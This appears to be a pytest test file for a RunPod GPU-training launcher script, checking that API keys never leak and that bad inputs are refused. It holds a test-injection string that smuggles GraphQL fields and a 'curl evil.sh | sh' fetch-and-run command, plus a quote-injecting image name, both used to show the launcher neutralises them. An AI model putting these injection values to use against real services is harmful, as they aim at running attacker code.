"""scripts/train_runpod.py end to end in a subprocess: the real SDK against the stub, the real SSH status
reader and tar download through an ``ssh`` stand-in that runs the remote command locally."""

from __future__ import annotations

import base64
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from runpod_stub import RunPodStub

RUNPOD_KEY = "rpa_CLIKEY0123456789abcdefSECRETVALUE"
WANDB_KEY = "fedcba9876543210fedcba9876543210WANDBCLI"
INJECTION = 'x", gpuCount: 8, dockerArgs: "curl evil.sh | sh'

# drops ssh's options and destination, then runs the remote command here (the "pod" is a local folder)
FAKE_SSH = """#!/bin/sh
while [ $# -gt 1 ]; do case "$1" in -p|-o|-i) shift 2 ;; *) shift ;; esac; done
exec sh -c "$1"
"""


def run_cli(repo_root: Path, args: list[str], env: dict[str, str], cwd: Path) -> subprocess.CompletedProcess:
    script = repo_root / "scripts" / "train_runpod.py"
    return subprocess.run(
        [sys.executable, str(script), *args], cwd=cwd, env=env, capture_output=True, text=True, timeout=120
    )


@pytest.fixture
def cli_env(tmp_path: Path) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if k not in ("RUNPOD_API_KEY", "WANDB_API_KEY", "CBVAE_IMAGE")}
    env["HOME"] = str(tmp_path / "home")  # no ~/.runpod credentials leak in
    return env


def test_full_launch_downloads_results_and_never_leaks_keys(repo_root: Path, tmp_path: Path, cli_env):
    pod_root = tmp_path / "pod" / "cbvae"
    (pod_root / "output" / "cbvae").mkdir(parents=True)
    (pod_root / "output" / "cbvae" / "decoder.ts").write_bytes(b"ts")
    (pod_root / "output" / "status.json").write_text(json.dumps({"state": "done", "step": "evaluate"}))
    ssh = tmp_path / "fake_ssh"
    ssh.write_text(FAKE_SSH)
    ssh.chmod(0o755)
    # keys only in .env: the CLI must read them from there
    (tmp_path / ".env").write_text(f"RUNPOD_API_KEY={RUNPOD_KEY}\nWANDB_API_KEY='{WANDB_KEY}'\n")
    out = tmp_path / "results"
    with RunPodStub(RUNPOD_KEY, start_polls=1) as stub:
        cli_env["RUNPOD_API_BASE_URL"] = stub.url
        args = ["--image", "ghcr.io/t/cbvae:1", "--remote-root", str(pod_root), "--out", str(out), "--poll-s", "1"]
        args += ["--ssh-program", str(ssh), "--epochs", "3", "--env", f"NOTE={INJECTION}"]
        proc = run_cli(repo_root, args, cli_env, tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert (out / "cbvae" / "decoder.ts").read_bytes() == b"ts"
    assert json.loads((out / "status.json").read_text())["state"] == "done"
    assert [r.operation for r in stub.requests].count("podTerminate") == 1 and stub.alive() == []
    assert "final cost about $" in proc.stdout and f"done: outputs in {out}" in proc.stdout

    # keys: never in stdout/stderr/log; RunPod key only in the auth header; W&B key only in the pod env
    log = (out / "launcher.log").read_text()
    assert "pod stubpod1 terminated" in log
    for text in (proc.stdout, proc.stderr, log):
        assert RUNPOD_KEY not in text and WANDB_KEY not in text
    for request in stub.requests:
        assert request.headers["Authorization"] == f"Bearer {RUNPOD_KEY}"
        assert RUNPOD_KEY not in request.body and RUNPOD_KEY not in request.path
        if request.operation != "podFindAndDeployOnDemand":
            assert WANDB_KEY not in request.body
    create = stub.ops("podFindAndDeployOnDemand")[0]
    env = {e["key"]: e["value"] for e in create.arguments["input"]["env"]}
    assert env["WANDB_API_KEY"] == WANDB_KEY and create.body.count(WANDB_KEY) == 1
    assert not any(WANDB_KEY in str(v) for k, v in create.arguments["input"].items() if k != "env")

    # the injection attempt arrived as one base64 env value inside a valid query: no extra fields
    assert all(r.syntax_error is None for r in stub.requests)
    assert base64.b64decode(env["CBVAE_B64_NOTE"]).decode() == INJECTION and "NOTE" not in env
    assert "gpuCount" not in create.arguments["input"] or create.arguments["input"]["gpuCount"] == 1
    assert create.arguments["input"].get("dockerArgs", "") == ""


def test_dry_run_prints_the_plan_without_any_request(repo_root: Path, tmp_path: Path, cli_env):
    cli_env.update(RUNPOD_API_KEY=RUNPOD_KEY, WANDB_API_KEY=WANDB_KEY)
    with RunPodStub(RUNPOD_KEY) as stub:
        cli_env["RUNPOD_API_BASE_URL"] = stub.url
        args = ["--image", "ghcr.io/t/cbvae:1", "--dry-run", "--gpu", "NVIDIA A100 80GB PCIe", "--max-cost", "7.5"]
        proc = run_cli(repo_root, [*args, "--cloud", "COMMUNITY", "--volume-gb", "80"], cli_env, tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert stub.requests == []
    assert "NVIDIA A100 80GB PCIe on COMMUNITY" in proc.stdout and "volume 80 GB" in proc.stdout
    assert "WANDB_API_KEY=<redacted>" in proc.stdout and "$7.50" in proc.stdout
    assert WANDB_KEY not in proc.stdout + proc.stderr and RUNPOD_KEY not in proc.stdout + proc.stderr


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--image", 'ghcr.io/t/cbvae:1" dockerArgs: "sh'], "error: --image contains '\"'"),
        (["--image", "img", "--gpu", "A100\\"], "error: --gpu contains '\\\\'"),
        (["--image", "img", "--max-cost", "0"], "error: --max-cost must be a finite number > 0"),
        (["--max-cost", "3"], "error: --image is required"),
        (["--image", "img", "--env", "WANDB_API_KEY=abc"], "error: --env WANDB_API_KEY: keys go in .env"),
        (["--image", "img", "--poll-s", "0"], "error: --poll-s must be >= 1"),
        (["--image", "img", "--max-hours", "inf", "--max-cost", "inf"], "error: --max-hours must be a finite number"),
        (["--image", "img", "--max-cost", "inf"], "error: --max-cost must be a finite number"),
        (
            ["--image", "img", "--env", "CBVAE_ROOT=/tmp/x"],
            "error: --env CBVAE_ROOT: the launcher sets it; use --remote",
        ),
        (["--image", "img", "--env", "RUNPOD_API_BASE_URL=http://x"], "error: --env RUNPOD_API_BASE_URL: RunPod sets"),
        (["--image", "img", "--env", f"NOTE=key {RUNPOD_KEY}"], "error: --env NOTE: its value holds an API key"),
        # values the pod would refuse after it started billing: refused here, before any request
        (["--image", "img", "--env", "CBVAE_LINGER_S=10m"], "error: --env CBVAE_LINGER_S must be whole seconds"),
        (["--image", "img", "--env", "CBVAE_LINGER_S=09"], "error: --env CBVAE_LINGER_S must be whole seconds"),
        (["--image", "img", "--env", f"CBVAE_LINGER_S={RUNPOD_KEY}"], "error: --env CBVAE_LINGER_S must be whole"),
        (["--image", "img", "--env", "CBVAE_RESOLUTION=3"], "error: --env CBVAE_RESOLUTION must be 2 or 4, got '3'"),
        (["--image", "img", "--epochs", "-5"], "error: --epochs must be a positive integer, got '-5'"),
        (["--image", "img", "--subset", "-5"], "error: --subset must be a positive integer or all, got '-5'"),
        (["--image", "img", "--volume-gb", "1e20"], "error: argument --volume-gb: invalid int value: '1e20'"),
        (["--image", "img", "--volume-gb", "10" + "0" * 19], "error: --volume-gb must be 1 to 4000 GB, got 1000"),
        (["--image", "img", "--container-disk-gb", "0"], "error: --container-disk-gb must be 1 to 4000 GB, got 0"),
    ],
)
def test_bad_input_is_one_line_and_no_request(repo_root: Path, tmp_path: Path, cli_env, args, message):
    cli_env["RUNPOD_API_KEY"] = RUNPOD_KEY
    with RunPodStub(RUNPOD_KEY) as stub:
        cli_env["RUNPOD_API_BASE_URL"] = stub.url
        proc = run_cli(repo_root, args, cli_env, tmp_path)
    assert proc.returncode == 2 and stub.requests == []
    assert proc.stderr.startswith(message) and proc.stderr.count("\n") == 1 and "Traceback" not in proc.stderr
    assert RUNPOD_KEY not in proc.stderr
    # the plan refuses them too: a dry run never shows a launch that would fail on the pod
    dry = run_cli(repo_root, [*args, "--dry-run"], cli_env, tmp_path)
    assert dry.returncode == 2 and dry.stderr == proc.stderr and dry.stdout == ""


def test_dry_run_shows_env_values_decoded_with_keys_hidden(repo_root: Path, tmp_path: Path, cli_env):
    cli_env.update(RUNPOD_API_KEY=RUNPOD_KEY)
    args = ["--image", "img", "--dry-run", "--env", "HF_TOKEN=hf_abcdefSECRET123", "--env", 'NOTE=a "quoted" note']
    proc = run_cli(repo_root, args, cli_env, tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert "HF_TOKEN=<redacted>" in proc.stdout and "hf_abcdefSECRET123" not in proc.stdout
    assert 'NOTE=a "quoted" note' in proc.stdout and "CBVAE_B64_" not in proc.stdout  # what the pod gets
    assert "removes itself" in proc.stdout


def test_env_file_readable_by_others_gets_a_warning(repo_root: Path, tmp_path: Path, cli_env):
    env_file = tmp_path / ".env"
    env_file.write_text(f"RUNPOD_API_KEY={RUNPOD_KEY}\n")
    for mode, warned in ((0o644, True), (0o600, False)):
        env_file.chmod(mode)
        proc = run_cli(repo_root, ["--image", "img", "--dry-run"], cli_env, tmp_path)
        assert proc.returncode == 0, proc.stderr
        assert ("readable by other users (mode 644); run: chmod 600" in proc.stderr) is warned
        assert RUNPOD_KEY not in proc.stdout + proc.stderr


def launch_in_background(repo_root: Path, tmp_path: Path, cli_env, stub: RunPodStub, *extra: str) -> subprocess.Popen:
    """The launcher following a job that never ends, started once the stub serves; returns at pod creation."""
    pod_root = tmp_path / "pod"
    (pod_root / "output").mkdir(parents=True)
    (pod_root / "output" / "status.json").write_text(json.dumps({"state": "running", "step": "train_cbvae"}))
    ssh = tmp_path / "fake_ssh"
    ssh.write_text(FAKE_SSH)
    ssh.chmod(0o755)
    cli_env.update(RUNPOD_API_KEY=RUNPOD_KEY, RUNPOD_API_BASE_URL=stub.url)
    args = ["--image", "img", "--remote-root", str(pod_root), "--out", str(tmp_path / "o"), "--poll-s", "1"]
    proc = subprocess.Popen(
        [sys.executable, str(repo_root / "scripts" / "train_runpod.py"), *args, "--ssh-program", str(ssh), *extra],
        cwd=tmp_path, env=cli_env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    end = time.monotonic() + 60
    while not stub.ops("pod") and time.monotonic() < end:  # created, and being followed
        time.sleep(0.05)
    return proc


@pytest.mark.parametrize(
    "signum",
    [signal.SIGQUIT, signal.SIGUSR1, signal.SIGTERM, signal.SIGINT],
    ids=["sigquit", "sigusr1", "sigterm", "ctrl_c"],
)
def test_quit_and_user_signals_terminate_the_pod(repo_root: Path, tmp_path: Path, cli_env, signum):
    with RunPodStub(RUNPOD_KEY, start_polls=0) as stub:
        proc = launch_in_background(repo_root, tmp_path, cli_env, stub)
        proc.send_signal(signum)
        out, err = proc.communicate(timeout=60)
    assert len(stub.pods) == 1 and stub.alive() == [], out + err
    assert "pod stubpod1 terminated" in out
    # the shell's convention, as the docs say: 128 + the signal (130 for Ctrl-C); the line says what is left
    assert proc.returncode == 128 + signum, err
    assert err.strip().endswith(f"error: interrupted by {signum.name}; pod stubpod1 terminated")
    assert RUNPOD_KEY not in out + err


def test_a_killed_launcher_leaves_a_pod_that_removes_itself(repo_root: Path, tmp_path: Path, cli_env):
    """kill -9 of the launcher: nothing on this side can act, so the pod ends itself at its deadline."""
    with RunPodStub(RUNPOD_KEY, start_polls=0) as stub:
        proc = launch_in_background(repo_root, tmp_path, cli_env, stub, "--max-hours", "0.002")  # 7.2 s
        proc.kill()
        proc.wait(timeout=10)
        assert stub.alive() == ["stubpod1"] and stub.ops("podTerminate") == []
        # the pod runs the entry script with the environment the launcher gave it, plus RunPod's own
        env = {**stub.pods["stubpod1"]["env"], **stub.platform_env("stubpod1")}
        deadline = int(env["CBVAE_DEADLINE"])
        assert 0 < deadline - time.time() <= 7.2
        (Path(env["CBVAE_ROOT"]) / "output" / "DONE").touch()  # job over; waiting for a download that never comes
        env.update(PATH=cli_env["PATH"], PYTHON=sys.executable, RUNPOD_API_BASE_URL=stub.url, HOME=cli_env["HOME"])
        pod = subprocess.run([str(repo_root / "scripts" / "runpod_train.sh")], env=env, capture_output=True,
                             text=True, timeout=60)  # fmt: skip
    assert pod.returncode == 0, pod.stdout + pod.stderr
    assert stub.alive() == [] and [r.pod_scoped for r in stub.ops("podTerminate")] == [True]
    assert time.time() >= deadline and "removing this pod" in pod.stdout


def test_missing_key_and_api_errors_are_one_line(repo_root: Path, tmp_path: Path, cli_env):
    proc = run_cli(repo_root, ["--image", "img"], cli_env, tmp_path)
    assert proc.returncode == 2 and proc.stderr.startswith("error: RUNPOD_API_KEY is not set")
    with RunPodStub(RUNPOD_KEY, faults={"create_error": True}) as stub:
        cli_env.update(RUNPOD_API_KEY=RUNPOD_KEY, WANDB_API_KEY=WANDB_KEY, RUNPOD_API_BASE_URL=stub.url)
        proc = run_cli(repo_root, ["--image", "img", "--out", str(tmp_path / "o")], cli_env, tmp_path)
    assert proc.returncode == 1 and "Traceback" not in proc.stderr
    assert proc.stderr.startswith("error: QueryError: There are no longer any instances")
    assert WANDB_KEY not in proc.stdout + proc.stderr + (tmp_path / "o" / "launcher.log").read_text()


def test_status_and_terminate_commands(repo_root: Path, tmp_path: Path, cli_env):
    cli_env["RUNPOD_API_KEY"] = RUNPOD_KEY
    with RunPodStub(RUNPOD_KEY, start_polls=0) as stub:
        cli_env["RUNPOD_API_BASE_URL"] = stub.url
        stub.pods["p1"] = {"input": {"name": "cbvae-x", "gpuTypeId": "NVIDIA GeForce RTX 4090"}, "polls": 0,
                           "desiredStatus": "RUNNING", "env": {"WANDB_API_KEY": WANDB_KEY}}  # fmt: skip
        status = run_cli(repo_root, ["--status", "p1"], cli_env, tmp_path)
        term = run_cli(repo_root, ["--terminate", "p1"], cli_env, tmp_path)
    assert status.returncode == 0, status.stderr
    info = json.loads(status.stdout)
    assert info["status"] == "RUNNING" and info["ssh_port"] == 22022 and info["cost_per_hour"] == 0.69
    assert WANDB_KEY not in status.stdout and "env" not in info
    assert term.returncode == 0 and stub.alive() == []


def test_monitor_script_shows_pod_status_and_log_tail(repo_root: Path, tmp_path: Path, cli_env):
    remote = tmp_path / "pod"
    (remote / "output" / "logs").mkdir(parents=True)
    (remote / "output" / "status.json").write_text(json.dumps({"state": "running", "step": "train_cbvae"}))
    (remote / "output" / "logs" / "train_cbvae.log").write_text("".join(f"epoch {i}\n" for i in range(1, 11)))
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "ssh").write_text(FAKE_SSH)
    (bin_dir / "ssh").chmod(0o755)
    cli_env.update(RUNPOD_API_KEY=RUNPOD_KEY, PYTHON=sys.executable, PATH=f"{bin_dir}:{cli_env['PATH']}")
    with RunPodStub(RUNPOD_KEY, start_polls=0) as stub:
        cli_env["RUNPOD_API_BASE_URL"] = stub.url
        stub.pods["p1"] = {"input": {"name": "cbvae-x", "gpuTypeId": "NVIDIA GeForce RTX 4090"}, "polls": 0,
                           "desiredStatus": "RUNNING", "env": {"WANDB_API_KEY": WANDB_KEY}}  # fmt: skip
        script = str(repo_root / "scripts" / "monitor_runpod.sh")
        proc = subprocess.run([script, "p1", "--lines", "3", "--remote-root", str(remote)], cwd=tmp_path,
                              env=cli_env, capture_output=True, text=True, timeout=120)  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    assert '"status": "RUNNING"' in proc.stdout and '"step": "train_cbvae"' in proc.stdout
    assert proc.stdout.rstrip().endswith("epoch 8\nepoch 9\nepoch 10") and "epoch 7" not in proc.stdout
    assert WANDB_KEY not in proc.stdout and RUNPOD_KEY not in proc.stdout + proc.stderr
